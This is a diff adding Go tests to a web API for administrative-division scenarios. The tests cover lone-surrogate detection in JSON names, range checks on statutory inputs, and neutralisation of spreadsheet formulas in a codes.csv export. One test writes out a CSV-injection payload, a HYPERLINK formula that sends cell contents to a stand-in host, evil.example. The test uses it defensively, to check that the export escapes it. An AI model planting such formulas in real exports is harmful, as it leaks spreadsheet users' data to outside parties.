@@ -2,11 +2,14 @@ package web
 
 import (
 	"context"
+	"encoding/csv"
+	"encoding/json"
 	"fmt"
 	"io"
 	"net"
 	"net/http"
 	"net/url"
+	"strconv"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -370,5 +373,117 @@ func TestFilteredItemsAreHeavy(t *testing.T) {
 	}
 	if n := counterValue(t, e.srv.metrics.abandoned.WithLabelValues("computing", "deadline")); n != 1 {
 		t.Errorf("%v filtered item scans abandoned at the deadline, want 1", n)
+	}
+}
+
+func TestLoneSurrogateAt(t *testing.T) {
+	for _, tc := range []struct {
+		body string
+		want int
+	}{
+		{`{"name":"古夫镇"}`, -1},
+		{`{"name":"\ud83d\ude00"}`, -1},    // a pair: 😀
+		{`{"name":"\uD83D\uDE00"}`, -1},    // upper-case hex
+		{`{"name":"\\udc00"}`, -1},         // an escaped backslash, then the letters udc00
+		{`{"name":"\u00e9\"\n"}`, -1},      // ordinary escapes
+		{`{"name":"\udc00"}`, 9},           // a low half alone
+		{`{"name":"\ud83d"}`, 9},           // a high half alone
+		{`{"name":"\ud83dx"}`, 9},          // a high half before a letter
+		{`{"name":"\ud83d\u0041"}`, 9},     // a high half before a non-surrogate escape
+		{`{"name":"\ude00\ud83d"}`, 9},     // reversed
+		{`{"a":"\ud83d\ude00\udc00"}`, 18}, // a pair, then a lone half
+		{`{"name":"\ud8`, -1},              // truncated: left to the JSON decoder
+	} {
+		if got := loneSurrogateAt([]byte(tc.body)); got != tc.want {
+			t.Errorf("loneSurrogateAt(%s) = %d, want %d", tc.body, got, tc.want)
+		}
+	}
+}
+
+// A name with a real surrogate pair (an emoji) is stored as that character; the lone half the
+// issue reported is refused and nothing is stored.
+func TestSurrogatePairsInNames(t *testing.T) {
+	e := newTestEnv(t, Config{OpenReads: true})
+	tok, _, _ := e.store.CreateToken(context.Background(), "p", store.RolePlanner)
+	code, _, m := e.do(t, "POST", "/api/v1/scenarios", `{"name":"合并\ud83d\ude00","ops":[]}`, "Authorization", "Bearer "+tok)
+	if code != 201 || m["scenario"].(map[string]any)["name"] != "合并😀" {
+		t.Fatalf("pair: %d %v", code, m)
+	}
+	code, _, m = e.do(t, "POST", "/api/v1/scenarios", `{"name":"合并\udc00","ops":[]}`, "Authorization", "Bearer "+tok)
+	if code != 400 || !strings.Contains(m["detail"].(string), "surrogate") {
+		t.Errorf("lone half: %d %v", code, m)
+	}
+	_, _, m = e.get(t, "/api/v1/scenarios", "Authorization", "Bearer "+tok)
+	if n := len(m["scenarios"].([]any)); n != 1 {
+		t.Errorf("%d scenarios stored, want 1", n)
+	}
+}
+
+// Statutory inputs out of range are refused naming the field (issue 14: seat_non_ag_pop: -5).
+func TestStatutoryInputsRangeChecked(t *testing.T) {
+	e := newTestEnv(t, Config{OpenReads: true})
+	tok, _, _ := e.store.CreateToken(context.Background(), "p", store.RolePlanner)
+	body := func(v string) string {
+		return `{"name":"撤乡设镇","ops":[],"inputs":{"units":{"420526101":{"seat_non_ag_pop":` + v + `}}}}`
+	}
+	code, _, m := e.do(t, "POST", "/api/v1/scenarios", body("-5"), "Authorization", "Bearer "+tok)
+	if code != 400 {
+		t.Fatalf("-5: %d %v", code, m)
+	}
+	if name := m["invalid_params"].([]any)[0].(map[string]any)["name"]; name != `inputs.units["420526101"].seat_non_ag_pop` {
+		t.Errorf("-5 names %v", name)
+	}
+	if code, _, m := e.do(t, "POST", "/api/v1/scenarios", body("2500"), "Authorization", "Bearer "+tok); code != 201 {
+		t.Errorf("2500: %d %v", code, m)
+	}
+}
+
+// A scenario that renames a town to a spreadsheet formula exports it as text in codes.csv
+// (formats.CSVText), and its numbers stay numbers.
+func TestCodesCSVNeutralisesFormulas(t *testing.T) {
+	e := newTestEnv(t, Config{OpenReads: true})
+	tok, _, _ := e.store.CreateToken(context.Background(), "p", store.RolePlanner)
+	evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
+	body, _ := json.Marshal(map[string]any{"name": "-改名", "ops": []any{map[string]any{"op": "rename", "unit": "420526100", "name": evil}}})
+	code, _, m := e.do(t, "POST", "/api/v1/scenarios", string(body), "Authorization", "Bearer "+tok)
+	if code != 201 {
+		t.Fatalf("create: %d %v", code, m)
+	}
+	id := int64(m["scenario"].(map[string]any)["id"].(float64))
+	req, _ := http.NewRequest("GET", fmt.Sprintf("%s/api/v1/scenarios/%d/codes.csv", e.ts.URL, id), nil)
+	req.Header.Set("Authorization", "Bearer "+tok)
+	res, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(res.Body)
+	res.Body.Close()
+	if res.StatusCode != 200 {
+		t.Fatalf("codes.csv: %d %s", res.StatusCode, b)
+	}
+	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff")))
+	r.FieldsPerRecord = -1
+	recs, err := r.ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if strings.Contains(cell, "HYPERLINK") {
+				found = true
+				if cell != "'"+evil {
+					t.Errorf("cell %q: want the formula neutralised as %q", cell, "'"+evil)
+				}
+			}
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				if _, err := strconv.ParseFloat(cell, 64); err != nil {
+					t.Errorf("cell %q starts a formula", cell)
+				}
+			}
+		}
+	}
+	if !found {
+		t.Errorf("the renamed unit is not in codes.csv:\n%s", b)
 	}
 }
